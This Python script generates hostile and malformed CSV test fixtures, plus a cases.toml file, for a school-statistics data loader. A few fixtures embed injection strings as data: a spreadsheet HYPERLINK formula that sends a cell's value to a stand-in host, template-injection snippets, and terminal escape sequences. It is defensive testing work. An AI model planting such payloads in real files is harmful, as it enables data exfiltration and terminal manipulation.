"""Writes the small hostile and broken files of this folder and its cases.toml: implausible numbers, encodings,
spreadsheet exports, repeated columns, control characters and over-long names for every tabular SOURCE, in the
formats of the synthetic sample (repaudit/sample_data). Run it from anywhere: python tests/hostile/tabular/make_cases.py"""
from __future__ import annotations

import codecs
import gzip
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

GIAS = "URN,EstablishmentName,LA (code),TypeOfEstablishment (name),PhaseOfEducation (name),NumberOfPupils,PercentageFSM,SchoolCapacity"
GROUPS = "URN,Group UID,Group ID,Group Name,Group Type,Group Status,Joined date"
LINKS = "URN,LinkURN,LinkName,LinkType,LinkEstablishedDate"
SPC = ("time_period,time_identifier,geographic_level,urn,school_name,"
       "number of pupils known to be eligible for free school meals,headcount of pupils")
SEN = "time_period,time_identifier,geographic_level,URN,School name,Total pupils,SEN support,EHC plan"
CIN = ("time_period,time_identifier,geographic_level,country_code,country_name,region_code,region_name,old_la_code,"
       "new_la_code,la_name,category,At31_episodes")
POP017 = ("time_period,time_identifier,geographic_level,country_code,country_name,region_code,region_name,"
          "old_la_code,new_la_code,la_name,age_group,population_estimate")
CIN_SCHOOLS = "urn,year,cin,pupils"
FLOWS = "urn,lsoa,pupils,fsm,sen,cin,year"
IOD = "LSOA code (2011),LSOA name (2011),Income Domain Score,IDACI Score"
IMD = "LSOA code (2011),Index of Multiple Deprivation (IMD) Rank,Index of Multiple Deprivation (IMD) Decile"
POP = "lsoa21_code,age_group,usual_residents"
LA = "Reporting year,Local authority,E92000001,England,E12000004,East Midlands,990,E06099990,Sampleshire (synthetic)"

CASES: list[dict] = []


def school(urn, name="Hostile Test School (synthetic)", pupils="743", pct="11.2", capacity="810"):
    return f"{urn},{name},990,Academy converter,Secondary,{pupils},{pct},{capacity}"


def write(name: str, text: str | bytes, encoding: str = "utf-8") -> str:
    (HERE / name).write_bytes(text if isinstance(text, bytes) else text.encode(encoding))
    return name


def case(name, source, file, expect, says, rejects=None, options=(), **extra):
    entry = {"name": name, "args": ["load", source, *options, "{dir}/" + file, "--db", "{db}"], "expect": expect,
             "says": says}
    if rejects is not None:
        entry["rejects"] = rejects
    entry.update(extra)
    CASES.append(entry)


def lines(*rows: str) -> str:
    return "\n".join(rows) + "\n"


def gias_cases():
    case("gias-pupils-negative", "gias", write("gias_pupils_negative.csv", lines(
        GIAS, school(999101), school(999102, pupils="-250"))), "rejects",
        ["NumberOfPupils -250 is negative: a count cannot be below 0"], 1)
    case("gias-pupils-outlier", "gias", write("gias_pupils_outlier.csv", lines(
        GIAS, school(999103), school(999104, pupils="20000"))), "rejects",
        ["NumberOfPupils 20000 is above 10,000, the most pupils on one school's roll"], 1)
    case("gias-percentage-fsm-140", "gias", write("gias_pct_fsm_140.csv", lines(
        GIAS, school(999105), school(999106, pct="140"), school(999107, pct="-3"), school(999130, pct="0"),
        school(999131, pct="100"))), "rejects",
        ["PercentageFSM 140 is outside 0-100", "PercentageFSM -3 is outside 0-100"], 2)
    case("gias-capacity-1e9", "gias", write("gias_capacity_1e9.csv", lines(
        GIAS, school(999108, capacity="1e9"), school(999109))), "rejects",
        ["SchoolCapacity 1e9 is above 10,000"], 1)
    case("gias-one-cp1252-line-in-utf8", "gias", write("gias_mixed_encoding.csv", (
        lines(GIAS, school(999110, "Ysgol Gymraeg – Caerdydd (synthetic)")).encode("utf-8")
        + lines(school(999111, "St Thomas à Becket School (synthetic)")).encode("cp1252"))), "accepted",
        ["read as UTF-8 except 1 line in Windows-1252 (row 3)"])
    case("gias-windows-1252", "gias", write("gias_cp1252.csv", lines(
        GIAS, school(999112), school(999113, "St Thomas à Becket School (synthetic)")), "cp1252"), "accepted",
        ["read as Windows-1252: not valid UTF-8 (first non-UTF-8 byte 0xe0 on row 3)"])
    case("gias-cp1252-undefined-byte", "gias", write("gias_undefined_byte.csv", (
        lines(GIAS, school(999114)).encode() + b"999115,Bad \x81 byte School,990,,,1,1,1\n")), "error",
        ["byte 0x81 on row 3 has no meaning in either"])
    case("gias-cyrillic-cp1251", "gias", write("gias_cp1251.csv", lines(
        GIAS, school(999116, "Школа номер один синтетическая"), school(999117, "Гимназия два синтетическая")),
        "cp1251"), "error", ["is neither UTF-8 nor plausible Windows-1252 text"])
    case("gias-control-characters", "gias", write("gias_control_chars.csv", lines(
        GIAS, school(999118, "Nul\x00 School\x1b[2J (synthetic)"), school(999119, "Vertical\x0btab School"))),
        "accepted", ["control characters (NUL, ESC, vertical tab or other C0/C1 codes) removed from 2 cells: column "
                     "'EstablishmentName' rows 2, 3"])
    case("gias-name-over-1000-characters", "gias", write("gias_long_name.csv", lines(
        GIAS, school(999120, "Long " * 250), school(999121))), "rejects",
        ["EstablishmentName is 1,250 characters long: more than 1,000 is not a name"], 1)
    case("gias-template-and-formula-names", "gias", write("gias_template_names.csv", lines(
        GIAS, school(999122, '"{{ 7*7 }} Academy"'), school(999123, '"=HYPERLINK(""http://x.test/?l=""&A2,""x"")"'),
        school(999124, '"{% if 1 %}x{% endif %}"'))), "accepted", ["3 rows read = 3 loaded + 0 rejected"])
    case("gias-urn-column-twice", "gias", write("gias_urn_twice.csv", lines(
        GIAS + ",URN", school(999125) + ",990001")), "error",
        ["has the column 'URN' 2 times (columns 1, 9): 'gias' reads that column"])
    case("gias-unused-column-twice", "gias", write("gias_unused_twice.csv", lines(
        GIAS + ",Notes,Notes", school(999126) + ",a,b")), "accepted",
        ["column 'Notes' appears 2 times (columns 9, 10); 'gias' does not read it"])
    case("gias-utf16-unicode-text", "gias", write("gias_utf16.txt", codecs.BOM_UTF16_LE + lines(
        GIAS.replace(",", "\t"), school(999127).replace(",", "\t")).replace("\n", "\r\n").encode("utf-16-le")),
        "accepted", ["read as UTF-16: the file starts with a UTF-16 byte-order mark"])
    case("gias-excel-sep-line", "gias", write("gias_sep_line.csv", lines(
        "sep=,", GIAS, school(999128))), "accepted", ["first line 'sep=,' (Excel's note of the delimiter) skipped"])
    case("gias-unmatched-quote", "gias", write("gias_unmatched_quote.csv", lines(
        GIAS, school(999132, '"St Mary\'s School (synthetic)'), school(999133), school(999134))), "error",
        ["has an unmatched quote: the value of column 'EstablishmentName' runs over 3 lines"])
    case("gias-mojibake-name", "gias", write("gias_mojibake.csv", lines(
        GIAS, school(999135, "St Thomas \u00c3\u00a0 Becket School (synthetic)"))), "accepted",
        ["text that is UTF-8 read as Windows-1252 (such as '\u00c3\u00a9' for '\u00e9') repaired in 1 cell"])
    case("gias-value-over-the-csv-field-limit", "gias", write("gias_huge_value.csv.gz", gzip.compress(lines(
        GIAS, school(999136), school(999137, "B" * 140_000)).encode(), mtime=0)), "error",
        ["has a value longer than 131,072 characters"])
    case("gias-total-row", "gias", write("gias_total_row.csv", lines(
        GIAS, school(999129), "Total,,,,,743,11.2,810")), "rejects",
        ["a 'Total' row (URN 'Total'), not a school"], 1)


def groups_and_links_cases():
    case("groups-group-uid-twice", "gias-groups", write("groups_uid_twice.csv", lines(
        GROUPS + ",Group UID", "999101,990101,TR99101,Trust (synthetic),Multi-academy trust,Open,01-08-2011,990103")),
        "error", ["has the column 'Group UID' 2 times"])
    case("groups-c1-apostrophe", "gias-groups", write("groups_c1_apostrophe.csv", lines(
        GROUPS, "999101,990101,TR99101,St Thomas\u0092 Federation (synthetic),Federation,Open,01-08-2011")),
        "accepted", ["C1 codes that are Windows-1252 punctuation read as Latin-1"])
    case("groups-name-over-1000-characters", "gias-groups", write("groups_long_name.csv", lines(
        GROUPS, f"999101,990101,TR99101,{'Trust ' * 200},Multi-academy trust,Open,01-08-2011",
        "999102,990101,TR99101,Trust (synthetic),Multi-academy trust,Open,01-08-2011")), "rejects",
        ["group_name is 1,200 characters long"], 1)
    case("links-cr-only-line-endings", "gias-links", write("links_cr_only.csv", "\r".join([
        LINKS, "999101,999102,Old School (synthetic),Predecessor,01-09-2022",
        "999102,abc,New School (synthetic),Successor,01-09-2022"]) + "\r"), "rejects",
        ["URN or LinkURN is not a number"], 1)
    case("links-escape-sequence-in-name", "gias-links", write("links_escape.csv", lines(
        LINKS, "999101,999102,Old\x1b]0;pwned\x07 School,Predecessor,01-09-2022")), "accepted",
        ["control characters (NUL, ESC, vertical tab or other C0/C1 codes) removed from 1 cell"])


def spc_sen_cases():
    spc = "202223,Academic year,School"
    case("spc-fsm-above-headcount", "spc", write("spc_fsm_above_headcount.csv", lines(
        SPC, f"{spc},999101,A (synthetic),83,794", f"{spc},999102,B (synthetic),900,794")), "rejects",
        ["FSM count 900 is more than headcount 794"], 1)
    case("spc-fsm-negative", "spc", write("spc_fsm_negative.csv", lines(
        SPC, f"{spc},999103,A (synthetic),-40,794", f"{spc},999104,B (synthetic),40,794")), "rejects",
        ["FSM count -40 is negative"], 1)
    case("spc-headcount-20000", "spc", write("spc_headcount_outlier.csv", lines(
        SPC, f"{spc},999105,A (synthetic),83,20000")), "rejects", ["headcount 20000 is above 10,000"], 1)
    case("spc-fsm-fraction", "spc", write("spc_fsm_fraction.csv", lines(
        SPC, f"{spc},999106,A (synthetic),83.5,794")), "rejects", ["FSM count 83.5 is not a whole number"], 1)
    case("spc-semicolon-decimal-comma", "spc", write("spc_semicolon_decimal_comma.csv", lines(
        SPC.replace(",", ";") + ";% of pupils known to be eligible for free school meals",
        f"{spc.replace(',', ';')};999107;A (synthetic);83;794;10,5")), "accepted",
        ["1 numbers written with a decimal comma (such as '10,5') in '% of pupils known to be eligible for free "
         "school meals' read with '.' as the decimal point"])
    case("spc-fsm-column-twice", "spc", write("spc_fsm_twice.csv", lines(
        SPC + ",number of pupils known to be eligible for free school meals", f"{spc},999108,A (synthetic),83,794,90")),
        "error", ["has the column 'number of pupils known to be eligible for free school meals' 2 times"])
    case("spc-bom-and-trailing-empty-columns", "spc", write("spc_bom_trailing.csv", codecs.BOM_UTF8 + lines(
        SPC + ",,,", f"{spc},999109,A (synthetic),83,794,,,").encode()), "accepted",
        ["3 unnamed columns at the end of the header ignored"])
    sen = "202122,Academic year,School"
    case("sen-support-5000-of-794", "sen", write("sen_support_5000.csv", lines(
        SEN, f"{sen},999101,A (synthetic),794,5000,10", f"{sen},999102,B (synthetic),794,54,10")), "rejects",
        ["SEN support count 5000 is more than pupils 794"], 1)
    case("sen-ehcp-negative", "sen", write("sen_ehcp_negative.csv", lines(
        SEN, f"{sen},999103,A (synthetic),794,54,-3")), "rejects", ["EHC plan count -3 is negative"], 1)
    case("sen-spss-missing-code", "sen", write("sen_spss_minus_99.csv", lines(
        SEN, f"{sen},999104,A (synthetic),794,-99,10")), "rejects",
        ["SEN support count -99 is negative: a missing-value code? leave the cell empty or write x"], 1)
    case("sen-null-and-dot", "sen", write("sen_null_dot.csv", lines(
        SEN, f"{sen},999105,A (synthetic),794,NULL,.")), "accepted",
        ["1 sen_support counts missing, reason kept: 1 not available (NULL)",
         "1 ehcp counts missing, reason kept: 1 not available (SPSS missing '.')"])
    case("sen-semicolon-separated", "sen", write("sen_semicolon.csv", lines(
        SEN.replace(",", ";"), f"{sen.replace(',', ';')};999106;A (synthetic);1.296;54;10")), "rejects",
        ["read as separated by semicolons (as Excel writes CSV in a European locale)"], 1)
    case("sen-decimal-comma-in-a-comma-file", "sen", write("sen_decimal_comma.csv", lines(
        SEN, f'{sen},999108,A (synthetic),"79,4",54,10', f"{sen},999109,B (synthetic),794,54,10")), "rejects",
        ["column 'Total pupils' holds '79,4': expected a number or a suppression code"], 1)
    case("sen-percentage-in-a-count", "sen", write("sen_percent_count.csv", lines(
        SEN, f"{sen},999110,A (synthetic),794,12%,10")), "rejects",
        ["SEN support count 12% is a percentage, not a count of people"], 1)
    case("spc-fractional-year", "spc", write("spc_fractional_year.csv", lines(
        SPC, "2022.5,Academic year,School,999111,A (synthetic),83,794")), "rejects",
        ["year '2022.5' is not a year such as 2022, 2022/23 or 202223"], 1)
    case("sen-utf32", "sen", write("sen_utf32.txt", codecs.BOM_UTF32_LE + lines(
        SEN, f"{sen},999112,A (synthetic),794,54,10").encode("utf-32-le")), "accepted",
        ["read as UTF-32: the file starts with a UTF-32 byte-order mark"])
    case("sen-thousands-and-exponent", "sen", write("sen_number_spellings.csv", lines(
        SEN, f'{sen},999107,A (synthetic),"1,296",1.2E+02,10')), "accepted", ["1 rows read = 1 loaded + 0 rejected"])


def cin_cases():
    case("cin-la-negative", "cin", write("b1_cin_negative.csv", lines(
        CIN, f"2023,{LA},Children in Need,-5")), "rejects", ["At31_episodes -5 is negative"], 1)
    case("cin-la-outlier", "cin", write("b1_cin_outlier.csv", lines(
        CIN, f"2023,{LA},Children in Need,250000")), "rejects",
        ["At31_episodes 250000 is above 100,000, the most children in need in one local authority"], 1)
    case("cin-population-1e9", "cin", write("ons_population_1e9.csv", lines(
        POP017, f"2023,{LA},Children aged 0 to 17 years,1e9")), "rejects",
        ["population_estimate 1e9 is above 1,500,000, the most children in one local authority"], 1)
    case("cin-value-column-twice", "cin", write("b1_cin_twice.csv", lines(
        CIN + ",At31_episodes", f"2023,{LA},Children in Need,686,700")), "error",
        ["has the column 'At31_episodes' 2 times"])
    case("cin-schools-above-pupils", "cin-schools", write("cin_schools_above_pupils.csv", lines(
        CIN_SCHOOLS, "999101,2021/22,120,100", "999102,2021/22,8,100")), "rejects",
        ["CIN count 120 is more than pupils 100"], 1)
    case("cin-schools-negative", "cin-schools", write("cin_schools_negative.csv", lines(
        CIN_SCHOOLS, "999103,2021/22,-2,100")), "rejects", ["CIN count -2 is negative"], 1)
    case("cin-schools-fraction", "cin-schools", write("cin_schools_fraction.csv", lines(
        CIN_SCHOOLS, "999104,2021/22,2.5,100")), "rejects", ["CIN count 2.5 is not a whole number"], 1)


def flows_cases():
    case("flows-pupils-1e12", "flows", write("flows_pupils_1e12.csv", lines(
        FLOWS, "999101,E01990001,1e12,0,0,0,2021/22", "999101,E01990002,2,0,0,0,2021/22")), "rejects",
        ["pupils 1e12 is above 10,000, the most pupils of one school living in one LSOA"], 1)
    case("flows-fsm-above-pupils", "flows", write("flows_fsm_above_pupils.csv", lines(
        FLOWS, "999102,E01990001,5,6,0,0,2021/22")), "rejects", ["fsm 6 is more than pupils 5"], 1)
    case("flows-cin-above-pupils", "flows", write("flows_cin_above_pupils.csv", lines(
        FLOWS, "999103,E01990001,5,0,0,9,2021/22")), "rejects", ["cin 9 is more than pupils 5"], 1)
    case("flows-urn-column-twice", "flows", write("flows_urn_twice.csv", lines(
        FLOWS + ",urn", "999104,E01990001,5,0,0,0,2021/22,990001")), "error",
        ["has the column 'urn' 2 times (columns 1, 8): 'flows' reads that column"])
    case("flows-pupils-fraction", "flows", write("flows_pupils_fraction.csv", lines(
        FLOWS, "999105,E01990001,2.5,0,0,0,2021/22")), "rejects", ["pupils 2.5 is not a whole number"], 1)


def iod_cases():
    rows = [f"E0199{i:04d},Sampleshire (synthetic) {i:03d},0.1{i % 10},0.0{i % 10}5" for i in range(1, 31)]
    case("iod-one-idaci-of-1-7", "iod", write("iod_synthetic_IoD2019_idaci_1_7.csv", lines(
        IOD, *rows, "E01990031,Sampleshire (synthetic) 031,0.12,1.7")), "rejects",
        ["IDACI Score 1.7 is outside 0-1", "'IDACI Score' is on a 0-1 scale (0-1 proportions; 30 of 31 values lie "
                                           "within 0-1); 1 value outside it rejected"], 1)
    case("iod-idaci-fits-neither-scale", "iod", write("iod_synthetic_IoD2019_idaci_neither.csv", lines(
        IOD, *rows[:20], *[f"E0199{i:04d},S,0.1,1.{i % 7}" for i in range(40, 46)])), "error",
        ["'IDACI Score' fits neither 0-1 proportions nor 0-100 percentages"])
    case("iod-idaci-percent", "iod", write("iod_synthetic_IoD2019_idaci_percent.csv", lines(
        IOD, *[f"E0199{i:04d},S,0.1,{10 + i}.5" for i in range(1, 6)])), "accepted",
        ["'IDACI Score' is on a 0-100 scale (0-100 percentages; 5 of 5 values are above 1): divided by 100"])
    case("iod-idaci-negative", "iod", write("iod_synthetic_IoD2019_idaci_negative.csv", lines(
        IOD, *rows, "E01990031,S,0.12,-0.2")), "rejects", ["IDACI Score -0.2 is outside 0-1"], 1)
    case("iod-imd-decile-11", "iod", write("iod_IMD2019_decile_11.csv", lines(
        IMD, "E01990001,29199,9", "E01990002,100,11")), "rejects",
        ["Index of Multiple Deprivation (IMD) Decile 11 is outside 1-10"], 1)


def population_cases():
    case("population-negative", "population", write("census2021_population_negative.csv", lines(
        POP, "E01990001,Aged 4 years and under,-63", "E01990001,Aged 5 to 9 years,78")), "rejects",
        ["usual_residents -63 is negative"], 1)
    case("population-1e9", "population", write("census2021_population_1e9.csv", lines(
        POP, "E01990002,Aged 4 years and under,1e9")), "rejects", ["usual_residents 1e9 is above 20,000"], 1)
    case("population-lsoa-of-50000-children", "population", write("census2021_population_50000.csv", lines(
        POP, "E01990003,Aged 5 to 9 years,50000")), "rejects",
        ["usual_residents 50000 is above 20,000, the most residents of one LSOA in one age band"], 1)
    case("population-age-column-twice", "population", write("census2021_population_wide_twice.csv", lines(
        "lsoa21_code,Aged 4 years and under,Aged 5 to 9 years,Aged 5 to 9 years", "E01990004,60,70,71")),
        "error", ["has the column 'Aged 5 to 9 years' 2 times"])


def toml_value(value) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, int):
        return str(value)
    return json.dumps(value, ensure_ascii=False)


def main():
    for make in (gias_cases, groups_and_links_cases, spc_sen_cases, cin_cases, flows_cases, iod_cases,
                 population_cases):
        make()
    blocks = ["# Generated by make_cases.py: implausible numbers, encodings, spreadsheet exports, repeated columns,\n"
              "# control characters and long names for every tabular SOURCE. Edit make_cases.py, then run it."]
    for entry in CASES:
        blocks.append("[[case]]\n" + "".join(f"{key} = {toml_value(value)}\n" for key, value in entry.items()))
    (HERE / "cases.toml").write_text("\n".join(blocks), encoding="utf-8")
    print(f"{len(CASES)} cases written to {HERE / 'cases.toml'}")


if __name__ == "__main__":
    main()
